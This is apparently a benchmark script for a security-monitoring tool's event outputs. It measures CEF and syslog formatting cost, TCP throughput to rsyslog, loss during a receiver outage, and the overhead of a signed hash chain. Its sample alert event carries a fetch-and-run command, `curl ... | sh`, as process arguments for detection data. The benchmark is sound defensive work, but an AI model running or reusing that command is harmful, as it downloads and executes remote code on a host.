// Outputs: (1) the cost of rendering one event in each format against JSON.stringify of the same event;
// (2) CEF over TCP end to end to a real local rsyslog (parsing CEF with liblognorm) through the
// dispatcher, against pre-formatted octet-counted lines written to a raw socket in the same run
// (goal: ratio >= 0.7); (3) the outage: receiver down 30 s while 5,000 events/s are produced,
// then every seq must arrive and memory must stay bounded (the test suite runs a smaller version);
// (4) the event record's cost in dispatch throughput, with and without it in the same run.
import { closeSync, createReadStream, mkdtempSync, openSync, readFileSync, readSync, statSync } from 'node:fs';
import { createInterface } from 'node:readline';
import { connect } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createEvent, type Event } from '../shared/events/index.ts';
import { silentLogger } from '../shared/logging/index.ts';
import { createDispatcher, FORMATTERS, formatCef, formatRfc5424, parseOutputUrl } from '../shared/outputs/index.ts';
import { startRsyslog, type RsyslogReceiver } from '../test/harness/rsyslog.ts';
import { figure, report } from './lib/report.ts';

const sleep = (ms: number): Promise<void> => new Promise((r) => setTimeout(r, ms));

function sampleEvent(i: number): Event {
  return createEvent({
    event: { kind: 'alert', category: ['process'], type: ['start'], action: 'process-started', severity: i % 11 },
    rule: { id: 'SW-SHELL-IN-SERVER', name: 'shell spawned by a server process' },
    message: `shell spawned by node (pid ${1000 + (i % 5000)})`,
    process: {
      pid: 1000 + (i % 5000),
      ppid: 1,
      name: 'sh',
      executable: '/bin/busybox',
      args: ['sh', '-c', `curl -s http://10.0.0.${i % 250}/x | sh # a=b|c\\d`],
      user: { id: '1000', name: 'node' },
      parent: { pid: 1, name: 'node', executable: '/usr/local/bin/node' },
    },
    container: { id: 'a'.repeat(64), name: 'app', image: { name: 'app:1.4.2', digest: `sha256:${'b'.repeat(64)}` } },
    orchestrator: { namespace: 'prod', resource: { name: 'app-7d9f', type: 'pod' } },
    host: { name: 'node-1' },
    sealwatch: { mode: 'monitor', outcome: 'alerted', seal: { status: 'verified' }, profile_id: 'app@1.4.2' },
  });
}

/** Counts lines appended to a file since the last call, reading only the new bytes. */
function lineCounter(path: string): () => number {
  let offset = 0;
  let lines = 0;
  const buf = Buffer.allocUnsafe(1 << 20);
  return () => {
    let size: number;
    try {
      size = statSync(path).size;
    } catch {
      return lines;
    }
    if (size <= offset) return lines;
    const fd = openSync(path, 'r');
    while (offset < size) {
      const n = readSync(fd, buf, 0, Math.min(buf.length, size - offset), offset);
      for (let i = 0; i < n; i++) if (buf[i] === 10) lines++;
      offset += n;
    }
    closeSync(fd);
    return lines;
  };
}

async function waitForLines(count: () => number, target: number, timeoutMs: number): Promise<number> {
  const deadline = Date.now() + timeoutMs;
  while (count() < target) {
    if (Date.now() > deadline) throw new Error(`receiver got ${count()} of ${target} lines`);
    await sleep(20);
  }
  return count();
}

function formattingCost(): void {
  const events = Array.from({ length: 2000 }, (_, i) => sampleEvent(i));
  const rounds = 10;
  const time = (fn: (e: Event) => string): number => {
    for (const e of events) fn(e); // warm up
    const start = process.hrtime.bigint();
    for (let r = 0; r < rounds; r++) for (const e of events) fn(e);
    return Number(process.hrtime.bigint() - start) / 1000 / (rounds * events.length);
  };
  const options = { version: '1.0.0', hostname: 'node-1' };
  // One untimed pass over every format first, so no format pays for the others' JIT warm-up.
  for (const format of Object.values(FORMATTERS)) time((e) => format(e, options));
  const baseline = time((e) => JSON.stringify(e));
  for (const [name, format] of Object.entries(FORMATTERS)) {
    report(
      `format ${name} (µs per event vs JSON.stringify)`,
      time((e) => format(e, options)),
      baseline,
      'µs',
      'lower',
    );
  }
  report(
    'format cef in an RFC 5424 header (µs per event vs JSON.stringify)',
    time((e) => formatRfc5424(e, formatCef(e, options), { hostname: 'node-1' })),
    baseline,
    'µs',
    'lower',
  );
}

async function endToEnd(receiver: RsyslogReceiver, count: () => number, n: number): Promise<void> {
  const events = Array.from({ length: n }, (_, i) => sampleEvent(i));
  // Baseline: the same CEF lines, formatted before the clock starts, octet-counted on one raw socket.
  // "The same" includes the dispatcher's stamp (run_id and seq, which CEF carries as flexString1 and
  // cn1 with their labels): without it each baseline line is ~110 bytes and four fields shorter, so
  // rsyslog's parsing alone made the baseline ~20% faster than anything carrying the stamp could be.
  const runId = 'b3f0c6d2-5a1e-4f7b-9c8d-0e1f2a3b4c5d';
  const stamped = (e: Event, seq: number): Event => ({
    ...e,
    sealwatch: { ...e.sealwatch, version: e.sealwatch.version ?? '1.0.0', run_id: runId, seq },
  });
  const lines = events.map((e, i) => {
    const s = stamped(e, i + 1);
    return Buffer.from(formatRfc5424(s, formatCef(s, { version: '1.0.0' }), { hostname: 'node-1' }), 'utf8');
  });
  let before = count();
  let start = process.hrtime.bigint();
  await new Promise<void>((resolve, reject) => {
    const socket = connect(receiver.port, '127.0.0.1', () => {
      let i = 0;
      const pump = (): void => {
        while (i < lines.length) {
          const chunk = Buffer.concat(lines.slice(i, i + 500).flatMap((l) => [Buffer.from(`${l.length} `), l]));
          i += 500;
          if (!socket.write(chunk)) {
            socket.once('drain', pump);
            return;
          }
        }
        socket.end(resolve);
      };
      pump();
    });
    socket.on('error', reject);
  });
  await waitForLines(count, before + n, 120_000);
  const baselineRate = n / (Number(process.hrtime.bigint() - start) / 1e9);

  // Ours: the dispatcher (stamp, format, queue, frame, write), paced only by its own queue.
  before = count();
  const d = createDispatcher([parseOutputUrl(`syslog+tcp://127.0.0.1:${receiver.port}?format=cef`)], {
    logger: silentLogger(),
    version: '1.0.0',
    hostname: 'node-1',
    runId,
  });
  start = process.hrtime.bigint();
  for (let i = 0; i < n; i++) {
    d.dispatch(events[i]!);
    if (i % 1000 === 999) {
      while (d.stats()[0]!.queued > 8000) await sleep(1);
      await new Promise((r) => setImmediate(r));
    }
  }
  await d.flush();
  await waitForLines(count, before + n, 120_000);
  const oursRate = n / (Number(process.hrtime.bigint() - start) / 1e9);
  await d.close();
  report(`CEF over TCP to rsyslog, end to end (${n} events)`, oursRate, baselineRate, 'events/s', 'higher');
  figure('CEF over TCP: ratio goal', oursRate / baselineRate, 'x', '>= 0.7');
}

async function outage(seconds: number, rate: number): Promise<void> {
  const receiver = await startRsyslog();
  const runId = 'bench-outage';
  const d = createDispatcher([parseOutputUrl(`syslog+tcp://127.0.0.1:${receiver.port}?format=json`)], {
    logger: silentLogger(),
    runId,
    spoolDir: mkdtempSync(join(tmpdir(), 'sw-bench-spool-')),
  });
  const upBefore = 3;
  const upAfter = 3;
  const total = (upBefore + seconds + upAfter) * rate;
  const rssBefore = process.memoryUsage().rss;
  let peakRss = rssBefore;
  let peakQueued = 0;
  let peakSpool = 0;
  const start = Date.now();
  let sent = 0;
  let stopped = false;
  let restarted = false;
  while (sent < total) {
    const elapsed = (Date.now() - start) / 1000;
    const due = Math.min(total, Math.floor(elapsed * rate));
    for (; sent < due; sent++) d.dispatch(sampleEvent(sent));
    if (!stopped && elapsed >= upBefore) {
      stopped = true;
      await receiver.stop();
    }
    if (!restarted && elapsed >= upBefore + seconds) {
      restarted = true;
      await receiver.restart();
    }
    const s = d.stats()[0]!;
    peakQueued = Math.max(peakQueued, s.queued);
    peakSpool = Math.max(peakSpool, s.spoolBytes);
    peakRss = Math.max(peakRss, process.memoryUsage().rss);
    await sleep(10);
  }
  const producedAt = Date.now();
  const count = lineCounter(join(receiver.dir, 'parsed.jsonl'));
  // Wait until the spool is empty and the receiver has at least every event once.
  for (;;) {
    const s = d.stats()[0]!;
    peakRss = Math.max(peakRss, process.memoryUsage().rss);
    if (s.spoolBytes === 0 && s.queued === 0 && count() >= total) break;
    if (Date.now() - producedAt > 300_000) break;
    await sleep(100);
  }
  const drainSeconds = (Date.now() - producedAt) / 1000;
  await d.close();
  const seqs = new Set<number>();
  // Streamed: the receiver's file holds each message three times (raw, msg, parsed), hundreds of MB.
  const lines = createInterface({ input: createReadStream(join(receiver.dir, 'parsed.jsonl')), crlfDelay: Infinity });
  for await (const line of lines) {
    const m = /"seq": ?(\d+)/.exec(line);
    if (m !== null && line.includes(runId)) seqs.add(Number(m[1]));
  }
  await receiver.stop();
  let lost = 0;
  for (let i = 1; i <= total; i++) if (!seqs.has(i)) lost++;
  figure(`outage ${seconds}s at ${rate}/s: events produced`, total, 'events');
  figure(`outage ${seconds}s at ${rate}/s: events lost (distinct seq missing at the receiver)`, lost, 'events', '0');
  figure(`outage ${seconds}s at ${rate}/s: time to drain the spool after the receiver returned`, drainSeconds, 's');
  figure(
    `outage ${seconds}s at ${rate}/s: peak events held in memory (queue + resend window)`,
    peakQueued,
    'events',
    '<= 10,000 queued + 3 s of traffic (at most 16 MB) kept for resending',
  );
  figure(`outage ${seconds}s at ${rate}/s: peak spool`, peakSpool / 1048576, 'MiB');
  report(
    `outage ${seconds}s at ${rate}/s: peak RSS vs RSS before`,
    peakRss / 1048576,
    rssBefore / 1048576,
    'MiB',
    'lower',
  );
}

/**
 * The event record's cost: the same dispatch as the end-to-end run (CEF over TCP to rsyslog, paced only by
 * the dispatcher's queue), without and with the hash chain + checkpoints, alternating so both see the same
 * load; median of 3 each. Also the dispatcher alone (to a file) to show the per-event CPU cost itself.
 * Goal: chaining costs ≤ 5% of dispatch throughput.
 */
async function chainCost(receiver: RsyslogReceiver, count: () => number, n: number): Promise<void> {
  const { generateKeyPairSync } = await import('node:crypto');
  const { parseSigningKey } = await import('../shared/signing/index.ts');
  const pair = generateKeyPairSync('ec', { namedCurve: 'prime256v1' });
  const key = parseSigningKey(pair.privateKey.export({ type: 'pkcs8', format: 'pem' }).toString(), 'bench');
  const events = Array.from({ length: n }, (_, i) => sampleEvent(i));
  const rsyslogPid = Number(readFileSync(join(receiver.dir, 'rsyslogd.pid'), 'utf8').trim());
  /** rsyslog's CPU so far, in ms (utime + stime from /proc, in clock ticks of 10 ms). */
  const rsyslogCpu = (): number => {
    const fields = readFileSync(`/proc/${rsyslogPid}/stat`, 'utf8').split(') ')[1]!.split(' ');
    return (Number(fields[11]) + Number(fields[12])) * 10;
  };
  const cpu = {
    plain: { ours: [] as number[], rsyslog: [] as number[] },
    chained: { ours: [] as number[], rsyslog: [] as number[] },
  };
  const run = async (url: string, chained: boolean, wait: boolean): Promise<number> => {
    const before = count();
    const oursBefore = process.cpuUsage();
    const rsyslogBefore = wait ? rsyslogCpu() : 0;
    const d = createDispatcher([parseOutputUrl(url)], {
      logger: silentLogger(),
      version: '1.0.0',
      hostname: 'node-1',
      ...(chained ? { record: { key, every: 1000, seconds: 3600 } } : {}),
    });
    const start = process.hrtime.bigint();
    for (let i = 0; i < n; i++) {
      d.dispatch(events[i]!);
      if (i % 1000 === 999) {
        while (d.stats()[0]!.queued > 8000) await sleep(1);
        await new Promise((r) => setImmediate(r));
      }
    }
    await d.flush();
    // Checkpoints are events too: n events plus one every 1,000 and one at shutdown.
    if (wait) await waitForLines(count, before + n, 120_000);
    const rate = n / (Number(process.hrtime.bigint() - start) / 1e9);
    if (wait) {
      const used = process.cpuUsage(oursBefore);
      cpu[chained ? 'chained' : 'plain'].ours.push((used.user + used.system) / n);
      cpu[chained ? 'chained' : 'plain'].rsyslog.push(((rsyslogCpu() - rsyslogBefore) * 1000) / n);
    }
    await d.close();
    return rate;
  };
  const median = (v: number[]): number => [...v].sort((a, b) => a - b)[Math.floor(v.length / 2)]!;
  const e2e = `syslog+tcp://127.0.0.1:${receiver.port}?format=cef`;
  const plain: number[] = [];
  const chained: number[] = [];
  for (let round = 0; round < 3; round++) {
    plain.push(await run(e2e, false, true));
    chained.push(await run(e2e, true, true));
  }
  report(
    `CEF over TCP to rsyslog with the event record (${n} events)`,
    median(chained),
    median(plain),
    'events/s',
    'higher',
  );
  figure('event record: cost in dispatch throughput', (1 - median(chained) / median(plain)) * 100, '%', '<= 5');
  // Where the time goes: each side's CPU per event (the receiver's is rsyslog parsing CEF and writing JSON).
  report('our CPU per event, CEF with the record', median(cpu.chained.ours), median(cpu.plain.ours), 'µs', 'lower');
  report(
    'rsyslog CPU per event, CEF with the record',
    median(cpu.chained.rsyslog),
    median(cpu.plain.rsyslog),
    'µs',
    'lower',
  );
  // The least any per-event content hash can cost here: sha256 over native JSON.stringify (no key sorting at all).
  const { hash } = await import('node:crypto');
  const floorStart = process.hrtime.bigint();
  for (const e of events) hash('sha256', JSON.stringify(e), 'hex');
  figure(
    'sha256 of JSON.stringify per event (floor of any content hash)',
    Number(process.hrtime.bigint() - floorStart) / 1e3 / n,
    'µs',
  );
  const file = `file://${join(mkdtempSync(join(tmpdir(), 'sw-bench-chain-')), 'events.jsonl')}`;
  const filePlain: number[] = [];
  const fileChained: number[] = [];
  for (let round = 0; round < 3; round++) {
    filePlain.push(await run(file, false, false));
    fileChained.push(await run(file, true, false));
  }
  report(
    `dispatcher to a file, with the event record (${n} events)`,
    median(fileChained),
    median(filePlain),
    'events/s',
    'higher',
  );
}

// BENCH_OUTPUTS_ONLY=format|e2e|outage|chain runs one part.
const only = process.env.BENCH_OUTPUTS_ONLY;
if (only === undefined || only === 'format') formattingCost();
if (only === undefined || only === 'e2e') {
  const receiver = await startRsyslog();
  try {
    const count = lineCounter(join(receiver.dir, 'parsed.jsonl'));
    await endToEnd(receiver, count, Number(process.env.BENCH_OUTPUTS_EVENTS ?? 200_000));
  } finally {
    await receiver.stop();
  }
}
if (only === undefined || only === 'chain') {
  const receiver = await startRsyslog();
  try {
    await chainCost(
      receiver,
      lineCounter(join(receiver.dir, 'parsed.jsonl')),
      Number(process.env.BENCH_CHAIN_EVENTS ?? 100_000),
    );
  } finally {
    await receiver.stop();
  }
}
if (only === undefined || only === 'outage')
  await outage(Number(process.env.BENCH_OUTAGE_SECONDS ?? 30), Number(process.env.BENCH_OUTAGE_RATE ?? 5000));
